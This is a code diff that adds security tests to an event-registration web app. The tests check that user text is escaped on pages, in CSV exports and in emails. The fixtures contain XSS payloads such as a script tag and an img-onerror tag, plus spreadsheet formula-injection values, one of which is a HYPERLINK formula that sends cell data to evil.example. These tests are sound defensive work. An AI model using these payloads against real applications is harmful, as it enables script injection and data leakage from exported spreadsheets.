@@ -1,11 +1,13 @@
 import { DEMO_EVENT_SLUG } from '@palabre/demo';
-import { anOrganizer } from './support/organizers';
+import { anOrganizer, TestOrganizer } from './support/organizers';
+import { csvCells } from './support/csv';
 import { changedTables, databaseState } from './support/database-state';
 import { declaredRoutes, routeServing } from './support/declared-routes';
+import { decode } from './support/html';
 import { buildTenancyWorld, ORGANIZER_ROUTES, OrganizerRoute, TenancyWorld } from './support/organizer-routes';
 import { aKeynote, aWorkshop, ProgramApi } from './support/program';
 import { fillRoute, registeredRoutes } from './support/registered-routes';
-import { aParticipant, anOpenEvent, aRegistrationWorld } from './support/registration';
+import { aParticipant, anOpenEvent, aQuestion, aRegistrationWorld } from './support/registration';
 import { cookieFaults, securityHeaderFaults } from './support/security-headers';
 import { json, suiteApp, TestApp } from './support/test-app';
 import { SetCookie, signedIn, WebClient } from './support/web-client';
@@ -206,6 +208,7 @@ describe('a participant’s token opens only its own registration', () => {
       people[who] = { token: created.manageToken, reference: created.reference, body };
     }
     expect((await world.people.call('PUT', people.binta.token, '/sessions', { sessionIds: [workshopId] })).status).toBe(200);
+    await checkInAtTheDoor(world.t, world.owner, p.slug, people.binta.token, workshopId);
   }, 120_000);
   afterAll(() => world?.t.close());
 
@@ -271,6 +274,7 @@ describe('a participant’s token opens only its own registration', () => {
   });
 
   it('gives no certificate of a session the participant was not at, whoever was', async () => {
+    expect((await world.t.fetch(`/r/${people.binta.token}/attestations/${workshopId}`, { headers: { accept: 'text/html' } })).status).toBe(200);
     for (const sessionId of [workshopId, keynoteId]) {
       expect((await world.t.fetch(`/r/${people.awa.token}/attestations/${sessionId}`, { headers: { accept: 'text/html' } })).status).toBe(404);
     }
@@ -285,6 +289,153 @@ describe('a participant’s token opens only its own registration', () => {
       '/api/v1/me/tokens',
     ]) {
       expect([path, (await world.t.fetch(path, { headers: bearer })).status]).toEqual([path, 401]);
+    }
+  });
+});
+
+/** Checks a registration in at a session's door (as the desk would), so that it has a certificate of attendance. */
+async function checkInAtTheDoor(t: TestApp, organizer: TestOrganizer, slug: string, token: string, sessionId: string): Promise<void> {
+  const { ticketCode } = await json<{ ticketCode: string }>(await t.fetch(`/api/v1/registrations/${token}`));
+  const res = await t.fetch(`/api/v1/events/${slug}/check-ins`, {
+    method: 'POST',
+    headers: organizer.headers,
+    body: JSON.stringify({ code: ticketCode, sessionId }),
+  });
+  expect((await json<{ result: string }>(res)).result).toBe('welcome');
+}
+
+const SCRIPT = '<script>alert(1)</script>';
+const IMG = '"><img src=x onerror=alert(1)>';
+/** Either payload, live: markup a browser would run. Escaped, it reads `&lt;script>` or `&quot;&gt;&lt;img`. */
+const LIVE_MARKUP = /<script>alert\(1\)|<img src=x onerror/i;
+/** What a spreadsheet would read as a formula. */
+const FORMULA = /^[=+\-@\t\r]/;
+
+describe('user-provided text is text everywhere: pages, CSV, emails', () => {
+  let world: Awaited<ReturnType<typeof aRegistrationWorld>>;
+  let p: ProgramApi;
+  let browser: WebClient;
+  const ids: Record<string, string> = {};
+  beforeAll(async () => {
+    world = await aRegistrationWorld(`Organisation ${Date.now()}`);
+    p = await ProgramApi.newEvent(world.t, world.owner);
+    ids.speaker = await p.speaker(`Awa ${SCRIPT}`, { bio: { fr: `Bio ${IMG}` } });
+    const session = await p.session(aWorkshop().titled(`Atelier ${SCRIPT}`).on(1, '10:00', '11:00').with({ capacity: 10 }).withSpeakers(ids.speaker));
+    ids.session = session.id;
+    ids.number = String(session.number);
+    expect((await p.release()).status).toBe(201);
+    await anOpenEvent(p, { capacity: 10, confirmEmail: false, questions: [aQuestion('attentes', 'text', `Attentes ${IMG}`)] });
+    const evil = aParticipant('evil', {
+      firstName: SCRIPT,
+      lastName: IMG,
+      organization: `ONG ${IMG}`,
+      region: `Kayes ${SCRIPT}`,
+      answers: { attentes: SCRIPT },
+      sessionIds: [ids.session],
+    });
+    const created = await json<{ manageToken: string; reference: string }>(await world.people.register(p.slug, evil));
+    ids.token = created.manageToken;
+    ids.reference = created.reference;
+    // And one whose every field is a formula, for the exports.
+    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1'];
+    const formula = aParticipant('formula', {
+      firstName: formulas[0],
+      lastName: formulas[1],
+      organization: formulas[2],
+      region: formulas[3],
+      answers: { attentes: formulas[4] },
+      sessionIds: [ids.session],
+    });
+    expect((await world.people.register(p.slug, formula)).status).toBe(201);
+    expect((await world.people.register(p.slug, aParticipant('cr', { firstName: formulas[5], lastName: formulas[5] }))).status).toBe(201);
+    await checkInAtTheDoor(world.t, world.owner, p.slug, ids.token, ids.session);
+    browser = await signedIn(world.t, world.owner.email, world.owner.password);
+  }, 120_000);
+  afterAll(() => world?.t.close());
+
+  /** A value for each path parameter: the event, its organization, the workshop, its speaker, the registrant's token and reference. */
+  function fill(path: string): string {
+    return fillRoute(path, (param) => {
+      if (param === 'id') return /speakers\/:id/.test(path) ? ids.speaker : /sessions\/:id/.test(path) ? ids.session : 'x';
+      return (
+        { slug: p.slug, orgSlug: world.owner.organizationSlug, token: ids.token, reference: ids.reference, number: ids.number, sessionId: ids.session }[
+          param
+        ] ?? 'x'
+      );
+    });
+  }
+
+  it('never lets them out as markup on any page, and shows them as text on the pages that show them', async () => {
+    const live: string[] = [];
+    const shown: string[] = [];
+    for (const route of registeredRoutes(world.t.app).filter((r) => r.method === 'GET')) {
+      const path = fill(route.path);
+      const res = await browser.get(path);
+      const type = res.headers.get('content-type') ?? '';
+      if (!/html|svg/.test(type)) continue;
+      const body = await res.text();
+      if (LIVE_MARKUP.test(body)) live.push(path);
+      if (decode(body).includes(SCRIPT) || decode(body).includes(IMG)) shown.push(route.path);
+    }
+    expect(live).toEqual([]);
+    const event = '/admin/o/:orgSlug/events/:slug';
+    expect(shown).toEqual(
+      expect.arrayContaining([
+        // public: the programme, the session, the speakers, the form (its question)
+        '/e/:slug/programme',
+        '/e/:slug/programme/:number',
+        '/e/:slug/intervenants',
+        '/e/:slug/inscription',
+        // the participant's own: the manage page, the certificates
+        '/r/:token',
+        '/r/:token/attestations',
+        '/r/:token/attestations/:sessionId',
+        // back-office: registrations, desk, program, speakers, figures
+        `${event}/registrations`,
+        `${event}/registrations/:reference`,
+        `${event}/accueil`,
+        `${event}/program`,
+        `${event}/program/sessions/:id`,
+        `${event}/speakers`,
+        `${event}/speakers/:id`,
+        `${event}/stats`,
+        `${event}/stats/report`,
+      ]),
+    );
+  }, 120_000);
+
+  it('exports them as data: every CSV cell a spreadsheet would run is neutralized', async () => {
+    const exports = registeredRoutes(world.t.app).filter((r) => r.method === 'GET' && r.path.endsWith('.csv'));
+    expect(exports.map((r) => r.path).sort()).toEqual([
+      '/api/v1/events/:slug/impact.csv',
+      '/api/v1/events/:slug/registrations.csv',
+      '/api/v1/events/:slug/stats.csv',
+    ]);
+    const formulas: string[] = [];
+    const texts: Record<string, string> = {};
+    for (const route of exports) {
+      const res = await world.t.fetch(fill(route.path), { headers: { authorization: world.owner.headers.authorization } });
+      expect([route.path, res.status]).toEqual([route.path, 200]);
+      texts[route.path] = await res.text();
+      formulas.push(
+        ...csvCells(texts[route.path]).flatMap((row) => row.filter((cell) => FORMULA.test(cell)).map((cell) => `${route.path}: ${JSON.stringify(cell)}`)),
+      );
+    }
+    expect(formulas).toEqual([]);
+    const registrations = csvCells(texts['/api/v1/events/:slug/registrations.csv']).flat();
+    // Shown as typed, with a quote before a formula (a tab or a carriage return first is trimmed at the input, the formula after it neutralized).
+    expect(registrations).toEqual(expect.arrayContaining([SCRIPT, IMG, `'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'+1+1", "'-1+1", "'@SUM(A1)", "'=1"]));
+    expect(csvCells(texts['/api/v1/events/:slug/stats.csv']).flat()).toEqual(expect.arrayContaining([`Kayes ${SCRIPT}`, "'@SUM(A1)"]));
+  });
+
+  it('mails them as text: no live markup in any message, the name escaped in the HTML part and plain in the text part', async () => {
+    const mails = await world.people.delivered(3, 0);
+    const toEvil = mails.filter((m) => m.envelopeTo.includes('awaevil@example.ml'));
+    expect(toEvil.length).toBeGreaterThan(0);
+    for (const mail of mails) expect([mail.parsed.subject, LIVE_MARKUP.test(String(mail.parsed.html))]).toEqual([mail.parsed.subject, false]);
+    for (const mail of toEvil) {
+      expect(decode(String(mail.parsed.html))).toContain(SCRIPT);
+      expect(String(mail.parsed.text)).toContain(SCRIPT);
     }
   });
 });
